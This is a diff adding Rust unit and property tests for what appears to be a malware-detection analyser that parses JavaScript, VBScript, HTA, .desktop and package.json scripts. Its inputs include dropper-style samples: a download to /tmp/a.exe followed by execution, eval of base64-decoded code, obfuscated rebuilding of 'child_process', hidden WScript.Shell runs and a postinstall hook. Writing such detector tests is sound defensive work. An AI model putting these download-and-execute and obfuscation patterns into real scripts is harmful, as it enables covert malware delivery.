@@ -1,0 +1,131 @@
+//! Scripts of the host and what is read of them.
+
+use proptest::prelude::*;
+
+use super::*;
+
+fn read(path: &str, text: &str) -> Vec<(String, String, Vec<String>)> {
+    let (operations, _) = read_host_script(path, text).unwrap_or_default();
+    let show = |o: Operation| {
+        (o.name, o.class.to_string(), o.arguments.into_iter().map(|(r, t)| format!("{r}={t}")).collect())
+    };
+    operations.into_iter().map(show).collect()
+}
+
+fn names(path: &str, text: &str) -> Vec<String> {
+    read(path, text).into_iter().map(|(n, _, a)| format!("{n} {}", a.join(" "))).collect()
+}
+
+#[test]
+fn modules_are_followed_through_variables_and_destructuring() {
+    let text = "const cp = require('child_process');\nconst { exec: run, spawn } = require(\"node:child_process\");\n\
+                cp.execSync('echo a'); run('echo b'); spawn('echo', ['c d', 'e']); require('child_process')['ex' + 'ec']('echo f')";
+    let found: Vec<String> = names("a.js", text).into_iter().filter(|n| n.starts_with("js:")).collect();
+    assert_eq!(
+        found,
+        [
+            "js:child_process.execsync command=echo a",
+            "js:child_process.exec command=echo b",
+            "js:child_process.spawn command=echo \"c d\" e",
+            "js:child_process.exec command=echo f",
+        ]
+    );
+}
+
+#[test]
+fn imports_of_modules_are_followed() {
+    let text = "import { exec as go } from 'child_process'\nimport * as cp from \"child_process\"\ngo('echo a')\ncp.exec(`echo ${b}`)";
+    assert_eq!(
+        names("a.mjs", text),
+        ["js:child_process.exec command=echo a", "js:child_process.exec command=echo ⟨b⟩"]
+    );
+}
+
+#[test]
+fn decoded_texts_that_are_executed_are_read_too() {
+    // atob of: require("child_process").exec("echo hello")
+    let text = "eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImVjaG8gaGVsbG8iKQ=='))";
+    let found = names("a.js", text);
+    assert!(found[0].starts_with("js:eval code=require"), "{found:?}");
+    assert!(found.iter().any(|n| n == "js:child_process.exec command=echo hello"), "{found:?}");
+}
+
+#[test]
+fn texts_are_put_together() {
+    let text = "var p = ['\\x63hild', 'process'].join('_'); var s = String.fromCharCode(101,99,104,111);\n\
+                require(p).exec(s + ' ' + 'olleh'.split('').reverse().join('') + Buffer.from('20', 'hex').toString())\n// child_process";
+    assert_eq!(names("a.js", text), ["js:child_process.exec command=echo hello "]);
+}
+
+#[test]
+fn a_download_flows_into_the_file_behind_it() {
+    let text = "const https = require('https'), fs = require('fs'), cp = require('child_process');\n\
+        https.get('https://files.invalid/a.exe', r => { r.pipe(fs.createWriteStream('/tmp/a.exe')); cp.exec('/tmp/a.exe') })";
+    let (operations, _) = read_host_script("a.js", text).unwrap();
+    assert_eq!(operations[0].class.to_string(), "Cn.fetch");
+    assert_eq!(operations[1].class.to_string(), "Cf.write");
+    assert_eq!(operations[1].inputs, [0]);
+    assert_eq!(operations[2].class.to_string(), "Cs.shell");
+    assert_eq!(operations[2].line, 2);
+}
+
+#[test]
+fn objects_of_the_windows_script_host_are_read_in_both_languages() {
+    let basic = "Set sh = CreateObject(\"WScript.\" & \"Shell\")\n' comment\nsh.Run \"cmd /c echo \" & Chr(104) & Chr(&H69), 0, False\n";
+    let found = names("a.vbs", basic);
+    assert_eq!(found[0], "vbs:wscript.shell.run command=cmd /c echo hi option=windowstyle=hidden");
+    let script = "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://files.invalid/a', false);\n\
+                  var s = new ActiveXObject('ADODB.Stream'); s.SaveToFile('a.exe'); WScript.Sleep(5)";
+    let found = names("a.js", script);
+    assert_eq!(found[0], "js:msxml2.xmlhttp.open url=http://files.invalid/a");
+    assert_eq!(found[1], "js:adodb.stream.savetofile path=a.exe");
+}
+
+#[test]
+fn scripts_in_an_html_application_keep_their_lines() {
+    let text =
+        "<html>\n<script language=\"VBScript\">\nCreateObject(\"WScript.Shell\").Run \"echo hi\"\n</script>";
+    let (operations, _) = read_host_script("a.hta", text).unwrap();
+    assert_eq!((operations[0].name.as_str(), operations[0].line), ("vbs:wscript.shell.run", 3));
+}
+
+#[test]
+fn desktop_entries_and_install_scripts_name_commands() {
+    assert_eq!(names("a.desktop", "[Desktop Entry]\nExec=echo hi\n")[0], "desktop:exec command=echo hi");
+    let json = "{\"name\": \"x\", \"scripts\": {\"test\": \"jest\", \"postinstall\": \"node a.js\"}}";
+    assert_eq!(names("package.json", json)[0], "npm:postinstall command=node a.js");
+}
+
+#[test]
+fn pages_are_silent() {
+    for text in [
+        "(function(){var x=new ActiveXObject('Microsoft.XMLHTTP');x.open('GET',u);fetch('/api').then(r=>r.json())})()",
+        "var root = Function('return this')(); var e = \"\\x41\"; eval('1+1')",
+        "$.get('https://site.example/data'); re.exec(text); /'/.exec(s); window.open('a')",
+        "const https = require('https'); https.get('https://site.example')",
+    ] {
+        assert_eq!(names("jquery.js", text), Vec::<String>::new(), "{text}");
+    }
+}
+
+#[test]
+fn a_bundle_is_read_only_when_it_executes_what_it_decodes() {
+    let padding = "/* nothing */ ".repeat(30_000);
+    let reads =
+        |front: &str, back: &str| is_host_script("a.js", format!("{front}{padding}{back}").as_bytes());
+    assert!(!reads("Function('return this')();", "atob(x)"));
+    assert!(reads("", "eval(atob(x))"));
+    assert!(reads("", "require('child_process')"));
+}
+
+proptest! {
+    #[test]
+    fn any_text_gives_an_answer(text in "(child_process|WScript|[(){}\\[\\]'\"`+.,=;:/\\\\&\\n $a-z0-9]){0,120}") {
+        for path in ["a.js", "a.vbs", "a.hta", "a.desktop", "package.json"] {
+            let (operations, _) = read_host_script(path, &format!("{text} child_process")).unwrap();
+            for (at, operation) in operations.iter().enumerate() {
+                prop_assert!(operation.inputs.iter().all(|i| *i < at));
+            }
+        }
+    }
+}
